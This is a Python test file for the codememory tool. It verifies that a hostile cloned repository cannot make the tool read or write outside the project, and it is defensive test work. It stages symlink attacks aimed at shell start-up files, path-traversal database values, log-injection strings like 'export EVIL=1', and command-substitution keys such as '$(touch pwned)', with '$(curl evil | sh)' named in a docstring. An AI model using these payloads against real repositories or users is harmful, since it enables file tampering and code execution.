"""A cloned repository's `.codememory/` is untrusted: hostile files in it must never make codememory read or
write outside the project (issue 11, "Files").

Each test builds a real project, then tampers with it the way a commit could: symbolic links at every place
codememory reads or writes (the store folder itself, the database and its journal, logs/, sessions/,
memory/, journal/, cache/, lock files, config.toml, .gitignore), a `sessions.markdown_path` or a
`captured_turns.log_path` pointing out of the project, a trigger whose error message holds a shell line.
Then it drives the real entry points (the CLI in-process, the installed `codememory-hook` and `codememory
mcp` through the official MCP client) and checks that every file outside the project is byte for byte and
mtime for mtime what it was, that nothing printed a traceback, and that the refusal says what and where.
"""

from __future__ import annotations

import json
import logging
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, TypeVar

import numpy as np
import pytest
from mcp import ClientSession

from codememory import Store
from codememory.core.safe_text import printable_line
from codememory.daemon.log_file import configure_logging, remove_logging
from codememory.embedding.vectors import VectorIndex
from conftest import invoke_cli
from support.mcp import project_session

T = TypeVar("T")
BIN = Path(sys.executable).parent
HOOK = BIN / "codememory-hook"
CODEMEMORY = BIN / "codememory"
FIXTURES = Path(__file__).parents[1] / "fixtures"
CLAUDE_SESSION = "528bc694-980c-40c8-b942-618b1b6cb9dd"
VICTIM_TEXT = b"# the user's shell start-up file\nexport PATH=$HOME/bin:$PATH\n"
SECRET = "OUTSIDE-SECRET-4f2a"  # text only files outside the project hold: it must never be shown
REFUSED = "symbolic link"  # what every refusal says
STAMP_RE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ ")
TRIGGER = "CREATE TRIGGER evil BEFORE INSERT ON memories BEGIN SELECT RAISE(ABORT, 'x\nexport EVIL=1'); END;"


# ----------------------------------------------------------------------------------- helpers
@dataclass
class Hostile:
    root: Path  # the cloned project
    outside: Path  # everything here belongs to the user and must not change

    @property
    def store(self) -> Path:
        return self.root / ".codememory"

    @property
    def victim(self) -> Path:
        return self.outside / "victim.rc"

    @property
    def victim_dir(self) -> Path:
        return self.outside / "victim_dir"

    def link(self, relative: str, target: Path) -> None:
        """Replace `.codememory/<relative>` (a file or folder) with a link to `target`."""
        path = self.store / relative
        if path.is_dir() and not path.is_symlink():
            path.rename(path.with_name(path.name + ".orig"))
        elif path.exists() or path.is_symlink():
            path.unlink()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    def sql(self, statement: str, *args: Any) -> None:
        conn = sqlite3.connect(self.store / "memory.db")
        with conn:
            conn.execute(statement, args)
        conn.close()


def snapshot(folder: Path) -> dict[str, tuple[str, bytes, int]]:
    """Every entry under `folder` (links not followed): kind, content and mtime."""
    out = {}
    for path in sorted(folder.rglob("*")):
        st = path.lstat()
        kind = "link" if path.is_symlink() else "dir" if path.is_dir() else "file"
        data = path.read_bytes() if kind == "file" else os.readlink(path).encode() if kind == "link" else b""
        out[str(path.relative_to(folder))] = (kind, data, st.st_mtime_ns)
    return out


@pytest.fixture
def hostile(tmp_path: Path) -> Hostile:
    root = tmp_path / "clone"
    root.mkdir()
    result = invoke_cli("--project", root, "init", "--assistants", "none")
    assert result.exit_code == 0, result.output
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / "victim.rc").write_bytes(VICTIM_TEXT)
    (outside / "victim_dir").mkdir()
    (outside / "victim_dir" / "notes.md").write_text(f"private notes {SECRET}\n")
    return Hostile(root, outside)


def hook(*args: str, stdin: str) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([str(HOOK), *args], input=stdin, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    return done


def one_line_error(result: Any) -> str:
    """A CLI failure: non-zero exit, one line on stderr, no traceback."""
    assert result.exit_code != 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    return str(lines[0])


def mcp(root: Path, body: Callable[[ClientSession], Awaitable[T]]) -> T:
    return project_session(root, body)


async def tool(session: ClientSession, name: str, arguments: dict[str, Any]) -> tuple[bool, str]:
    """(is an error, the result's text); an error is one line without a traceback."""
    result = await session.call_tool(name, arguments)
    text: str = result.content[0].text  # type: ignore[union-attr]
    if result.isError:
        assert "Traceback" not in text and "\n" not in text, text
    return bool(result.isError), text


def make_session(h: Hostile, goal: str = "Harden the tea kettle firmware") -> str:
    with Store.open(h.root) as store:
        return store.checkpoint(tool="cursor", slug="kettle", goal=goal).session_id


def claude_stop(h: Hostile, transcript_dir: Path) -> str:
    """The recorded Claude Code Stop payload, with its transcript copied next to it (six finished turns)."""
    lines = (FIXTURES / "transcripts" / "claude-code-2.1.197.jsonl").read_text().replace("__PROJECT__", str(h.root))
    (transcript_dir / f"{CLAUDE_SESSION}.jsonl").write_text(lines)
    text = (FIXTURES / "hooks" / "recorded" / "claude_Stop.json").read_text()
    return text.replace("__TRANSCRIPT_DIR__", str(transcript_dir)).replace("__PROJECT__", str(h.root))


def hooks_log(h: Hostile) -> list[str]:
    path = h.store / "logs" / "hooks.log"
    return path.read_text(encoding="utf-8").splitlines() if path.is_file() and not path.is_symlink() else []


# ------------------------------------------------------------------------------ the hook log
def test_a_hook_error_is_logged_in_the_project(hostile: Hostile) -> None:
    """The control for the link tests below: a bad payload is an error the hook logs (one line)."""
    out = hook("claude", "UserPromptSubmit", "--project", str(hostile.root), stdin="{not json")
    assert out.stdout == ""
    [line] = hooks_log(hostile)
    assert STAMP_RE.match(line) and "stdin is not a JSON object" in line


@pytest.mark.parametrize(
    ("where", "target"),
    [("logs/hooks.log", "victim.rc"), ("logs", "victim_dir"), ("logs/hooks.log", "not-yet.rc")],
    ids=["log-file", "log-folder", "dangling-log-file"],
)
def test_the_hook_log_never_follows_a_link(hostile: Hostile, where: str, target: str) -> None:
    hostile.link(where, hostile.outside / target)
    before = snapshot(hostile.outside)
    out = hook("claude", "UserPromptSubmit", "--project", str(hostile.root), stdin="{not json")
    assert out.stdout == ""
    assert snapshot(hostile.outside) == before


def test_a_trigger_error_with_newlines_is_one_escaped_log_line(hostile: Hostile, tmp_path: Path) -> None:
    """A committed trigger makes every insert fail with a message holding a shell line. Either the store
    refuses the unknown trigger on open or the insert fails: both are logged as one escaped line."""
    hostile.sql(TRIGGER)
    stop = {"session_id": "s1", "cwd": str(hostile.root), "hook_event_name": "Stop",
            "last_assistant_message": "Done.\n\n*Remember*: the kettle boots in 3 s."}  # fmt: skip
    hook("claude", "Stop", stdin=json.dumps(stop))
    lines = hooks_log(hostile)
    assert lines, "the failure was not logged"
    assert all(STAMP_RE.match(line) for line in lines), lines
    assert not any(line.lstrip().startswith("export") for line in lines)


def test_a_trigger_error_never_reaches_a_linked_log(hostile: Hostile) -> None:
    hostile.sql(TRIGGER)
    hostile.link("logs/hooks.log", hostile.victim)
    before = snapshot(hostile.outside)
    stop = {"session_id": "s1", "cwd": str(hostile.root), "hook_event_name": "Stop",
            "last_assistant_message": "*Remember*: the kettle boots in 3 s."}  # fmt: skip
    hook("claude", "Stop", stdin=json.dumps(stop))
    assert snapshot(hostile.outside) == before
    assert b"EVIL" not in hostile.victim.read_bytes()


# ------------------------------------------------------------------ the store folder itself
@pytest.mark.slow
def test_a_store_folder_that_is_a_link_is_refused_everywhere(hostile: Hostile, tmp_path: Path) -> None:
    elsewhere = hostile.outside / "elsewhere"
    elsewhere.mkdir()
    assert invoke_cli("--project", elsewhere, "init", "--assistants", "none", "--no-global").exit_code == 0
    (hostile.store).rename(hostile.root / "old-store")
    (hostile.root / ".codememory").symlink_to(elsewhere / ".codememory")
    before = snapshot(hostile.outside)
    for args in (["store", "the kettle boots in 3 s"], ["search", "kettle"], ["sessions", "rebuild"],
                 ["sessions", "list"], ["init", "--assistants", "none", "--no-global"]):  # fmt: skip
        message = one_line_error(invoke_cli("--project", hostile.root, *args))
        assert ".codememory" in message and REFUSED in message, (args, message)
    hook("claude", "UserPromptSubmit", "--project", str(hostile.root), stdin="{not json")
    stop = claude_stop(hostile, tmp_path)
    hook("claude", "Stop", stdin=stop)

    async def body(session: ClientSession) -> tuple[bool, str]:
        return await tool(session, "checkpoint", {"slug": "kettle", "goal": "x"})

    failed, text = mcp(hostile.root, body)
    assert failed and REFUSED in text
    assert snapshot(hostile.outside) == before


@pytest.mark.parametrize("name", ["memory.db", "memory.db-wal", "memory.db-shm", "memory.db-journal"])
def test_a_database_or_journal_link_is_refused_before_sqlite_opens_it(hostile: Hostile, name: str) -> None:
    """SQLite would follow a link at the database or write its WAL through a link at `memory.db-wal`."""
    if name == "memory.db":
        other = hostile.outside / "other"
        other.mkdir()
        Store.init(other)[0].close()
        hostile.link(name, other / ".codememory" / "memory.db")
    else:
        hostile.link(name, hostile.victim)
    before = snapshot(hostile.outside)
    message = one_line_error(invoke_cli("--project", hostile.root, "store", "the kettle boots in 3 s"))
    assert name in message and REFUSED in message
    assert snapshot(hostile.outside) == before


def test_a_linked_config_file_is_not_read(hostile: Hostile) -> None:
    secret = hostile.outside / "secret.toml"
    secret.write_text(f'[embedding]\nprovider = "{SECRET}"\n')
    hostile.link("config.toml", secret)
    result = invoke_cli("--project", hostile.root, "list")
    message = one_line_error(result)
    assert "config.toml" in message and REFUSED in message and SECRET not in result.output


def test_init_never_writes_its_gitignore_through_a_link(hostile: Hostile) -> None:
    hostile.link(".gitignore", hostile.outside / "created-by-init")
    before = snapshot(hostile.outside)
    result = invoke_cli("--project", hostile.root, "init", "--assistants", "none", "--no-global")
    assert result.exit_code == 0, result.output
    assert snapshot(hostile.outside) == before


# --------------------------------------------------------------------------------- sessions
@pytest.mark.parametrize("stored", ["../../home/victim.rc", "ABSOLUTE"])
def test_a_stored_markdown_path_never_leaves_the_sessions_folder(hostile: Hostile, stored: str) -> None:
    session_id = make_session(hostile)
    value = str(hostile.victim) if stored == "ABSOLUTE" else stored
    assert (hostile.store / value).resolve() == hostile.victim.resolve()
    hostile.sql("UPDATE sessions SET markdown_path = ?", value)
    before = snapshot(hostile.outside)
    own = hostile.store / "sessions" / f"{session_id}.md"

    # Either the store's row check drops the row (a value codememory never writes: the session is gone, with
    # one clear line) or the session is kept with its file derived from its id. Nothing outside ever changes.
    shown = invoke_cli("--project", hostile.root, "sessions", "show", session_id)
    kept = shown.exit_code == 0
    if kept:
        assert "tea kettle" in shown.stdout and "shell start-up" not in shown.stdout
    else:
        assert session_id in one_line_error(shown)
    listed = json.loads(invoke_cli("--project", hostile.root, "sessions", "list", "--json").stdout)
    assert [s["markdown_path"] for s in listed["sessions"]] == ([str(own)] if kept else [])

    async def body(session: ClientSession) -> list[tuple[bool, str]]:
        return [
            await tool(session, "search_sessions", {"query": "tea kettle firmware"}),
            await tool(session, "checkpoint", {"session_id": session_id, "work_completed": ["Flashed v2"]}),
        ]

    (failed_search, found), (failed_checkpoint, saved) = mcp(hostile.root, body)
    assert not failed_search and [r["markdown_path"] for r in json.loads(found)["results"]] in ([str(own)], [])
    assert failed_checkpoint or json.loads(saved)["markdown_path"] == str(own)
    assert failed_checkpoint or "Flashed v2" in own.read_text()
    assert snapshot(hostile.outside) == before


@pytest.mark.slow
def test_a_session_file_that_is_a_link_is_neither_read_nor_overwritten(hostile: Hostile) -> None:
    session_id = make_session(hostile)
    hostile.link(f"sessions/{session_id}.md", hostile.victim)
    before = snapshot(hostile.outside)

    message = one_line_error(invoke_cli("--project", hostile.root, "sessions", "show", session_id))
    assert session_id in message and REFUSED in message

    async def body(session: ClientSession) -> tuple[bool, str]:
        return await tool(session, "checkpoint", {"session_id": session_id, "work_completed": ["x"]})

    failed, text = mcp(hostile.root, body)
    assert failed and REFUSED in text
    rebuilt = invoke_cli("--project", hostile.root, "sessions", "rebuild", "--json")
    assert rebuilt.exit_code == 0
    [error] = json.loads(rebuilt.stdout)["errors"]
    assert REFUSED in error["error"]
    assert snapshot(hostile.outside) == before


@pytest.mark.slow
def test_a_sessions_folder_that_is_a_link_is_refused(hostile: Hostile) -> None:
    make_session(hostile)
    hostile.link("sessions", hostile.victim_dir)
    before = snapshot(hostile.outside)

    async def body(session: ClientSession) -> tuple[bool, str]:
        return await tool(session, "checkpoint", {"slug": "new-topic", "goal": "x"})

    failed, text = mcp(hostile.root, body)
    assert failed and "sessions" in text and REFUSED in text
    message = one_line_error(invoke_cli("--project", hostile.root, "sessions", "rebuild"))
    assert REFUSED in message
    listed = json.loads(invoke_cli("--project", hostile.root, "sessions", "list", "--json").stdout)
    assert len(listed["sessions"]) == 1  # the refused rebuild emptied nothing
    assert snapshot(hostile.outside) == before


# ------------------------------------------------------------------- daily logs and capture
@pytest.mark.parametrize("where", ["memory", "journal", "capture.lock"])
def test_hook_capture_never_writes_through_a_link(hostile: Hostile, tmp_path: Path, where: str) -> None:
    target = hostile.victim_dir if where != "capture.lock" else hostile.outside / "created-by-lock"
    hostile.link(where, target)
    before = snapshot(hostile.outside)
    hook("claude", "Stop", stdin=claude_stop(hostile, tmp_path))
    assert snapshot(hostile.outside) == before
    assert any(REFUSED in line and where in line for line in hooks_log(hostile)), hooks_log(hostile)


def test_a_hook_state_file_that_is_a_link_is_not_overwritten(hostile: Hostile) -> None:
    prompt = {"session_id": "s1", "cwd": str(hostile.root), "hook_event_name": "UserPromptSubmit", "prompt": "hi"}
    hostile.link("journal/claude-s1.json", hostile.victim)
    before = snapshot(hostile.outside)
    hook("claude", "UserPromptSubmit", stdin=json.dumps(prompt))
    assert snapshot(hostile.outside) == before
    assert any(REFUSED in line for line in hooks_log(hostile))


def test_capture_never_opens_a_linked_extraction_lock(hostile: Hostile, tmp_path: Path) -> None:
    hostile.link("extract.lock", hostile.outside / "created-by-lock")
    before = snapshot(hostile.outside)
    result = invoke_cli("capture", env={"OPENCODE_DB": str(tmp_path / "no-opencode.db")})
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "extract.lock" in result.stderr and REFUSED in result.stderr
    assert snapshot(hostile.outside) == before


def test_transcripts_never_read_a_daily_log_outside_the_project(hostile: Hostile) -> None:
    notes = hostile.outside / "notes.md"
    notes.write_text(f"### 12:00\n<!-- session:ses_evil turn:t1 -->\n- User: {SECRET}\n")
    hostile.sql(
        "INSERT INTO captured_turns VALUES ('claude-code', 'ses_evil', 't1', 1, '2026-01-01T12:00:00.000Z', NULL, "
        "?, 'the stored summary', '2026-01-01T12:00:00.000Z')",
        os.path.relpath(notes, hostile.store),
    )
    hostile.link("memory/2026-01-01.md", notes)  # and a committed log that is a link to it
    result = invoke_cli("--project", hostile.root, "transcript", "ses_evil", "--json")
    assert SECRET not in result.stdout + result.stderr
    if result.exit_code == 0:  # the turn is kept, read from its stored summary
        [turn] = json.loads(result.stdout)["turns"]
        assert turn["log_path"] is None and turn["origin"] == "summary"
    else:  # the store's row check dropped a turn whose log path leaves .codememory/
        assert "ses_evil" in one_line_error(result)


# ------------------------------------------------------------------------------------ cache
def test_the_vector_cache_never_writes_through_a_link(hostile: Hostile) -> None:
    hostile.link("cache", hostile.victim_dir)
    before = snapshot(hostile.outside)
    with Store.open(hostile.root) as store:
        store.db.conn.executemany(
            "INSERT INTO memories(id, text, text_hash, created_at, updated_at) VALUES (?, ?, 'h', ?, ?)",
            [
                (f"mem_0000000{i}", f"note {i}", "2026-01-01T00:00:00.000Z", "2026-01-01T00:00:00.000Z")
                for i in range(5)
            ],
        )
        rows = store.db.conn.execute("SELECT pk, text FROM memories").fetchall()
        store.db.save_embeddings("some-model", [(pk, text, b"\x00\x3c" * 4, 4) for pk, text in rows])
        index = VectorIndex(store.db, "some-model", hostile.store / "cache", ann_threshold=1)
        found = index.search(np.ones(4, dtype=np.float32) / 2, 3, store.filters())  # would write the index's files
        assert index.maintain() is False  # and its upkeep would write the graph: both refused at the link
    assert len(found) == 3  # searched from memory: nothing written
    assert snapshot(hostile.outside) == before


# -------------------------------------------------------------------------------- log lines
def test_printable_line_escapes_every_control_character() -> None:
    text = "a\nb\rc\td\x1b[31me\x00f\x7fg\x85h\u2028i\ud800j ok ü"
    assert printable_line(text) == "a\\nb\\rc\\td\\x1b[31me\\x00f\\x7fg\\x85h\\u2028i\\ud800j ok ü"


def test_daemon_log_records_are_one_line(tmp_path: Path) -> None:
    path = tmp_path / "daemon.log"
    level = logging.getLogger().level
    handlers = configure_logging(path, 1_000_000, 1)
    try:
        logging.getLogger("codememory.daemon").warning("failed: %s", "x\nexport EVIL=1\x1b[2J")
        try:
            raise ValueError("boom\nexport EVIL=2")
        except ValueError:
            logging.getLogger("codememory.daemon").exception("task failed")
    finally:
        remove_logging(handlers)
        logging.captureWarnings(False)
        logging.getLogger().setLevel(level)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2 and not any(line.startswith("export") for line in lines)
    assert "x\\nexport EVIL=1\\x1b[2J" in lines[0] and "boom\\nexport EVIL=2" in lines[1]


def test_extraction_never_reads_a_transcript_of_another_project(hostile: Hostile, tmp_path: Path) -> None:
    """A committed capture cursor naming another project's transcript: `codememory capture` must not
    extract that session into this project (its text would then be committed with this one)."""
    other = hostile.outside / "other-project"
    other.mkdir()
    lines = (FIXTURES / "transcripts" / "claude-code-2.1.197.jsonl").read_text().replace("__PROJECT__", str(other))
    transcript = hostile.outside / f"{CLAUDE_SESSION}.jsonl"
    transcript.write_text(lines)
    position = {"session_id": CLAUDE_SESSION, "messages": 100, "offset": 0, "updated_at": "2026-01-01T00:00:00.000Z"}
    hostile.sql(
        "INSERT INTO captured_turns VALUES ('claude-code', ?, 't1', 1, '2026-01-01T00:00:00.000Z', NULL, "
        "'memory/2026-01-01.md', 'a turn', '2026-01-01T00:00:00.000Z')",
        CLAUDE_SESSION,
    )
    hostile.sql(
        "INSERT INTO capture_cursors VALUES ('claude-code', ?, ?, '2026-01-01T00:00:00.000Z')",
        str(transcript),
        json.dumps(position),
    )
    before = snapshot(hostile.outside)
    result = invoke_cli("capture", "--idle-after", "0", "--json", env={"OPENCODE_DB": str(tmp_path / "none.db")})
    assert "Traceback" not in result.output
    report = json.loads(result.stdout)
    assert report["memories_created"] == 0 and report["extraction"][0]["sessions"] == []
    with Store.open(hostile.root) as store:
        assert store.list(limit=50) == []
    assert snapshot(hostile.outside) == before


def test_init_never_writes_assistant_settings_through_a_link(hostile: Hostile) -> None:
    """Outside .codememory/ but the same trick: `init` merges the committed `.claude/settings.json` (keys
    chosen by the clone, like "$(curl evil | sh)") and must not write it through a committed link at its
    temporary or backup file name (onto ~/.bashrc, where bash would run that key)."""
    claude = hostile.root / ".claude"
    claude.mkdir()
    (claude / "settings.json").write_text(json.dumps({"$(touch pwned)": 1}, indent=2))
    (claude / "settings.json.codememory-tmp").symlink_to(hostile.victim)
    (claude / "settings.json.codememory-backup").symlink_to(hostile.outside / ".bash_aliases")
    before = snapshot(hostile.outside)
    result = invoke_cli("--project", hostile.root, "init", "--assistants", "claude", "--no-global")
    assert result.exit_code == 0, result.output
    settings = json.loads((claude / "settings.json").read_text())
    assert "hooks" in settings and settings["$(touch pwned)"] == 1
    assert snapshot(hostile.outside) == before
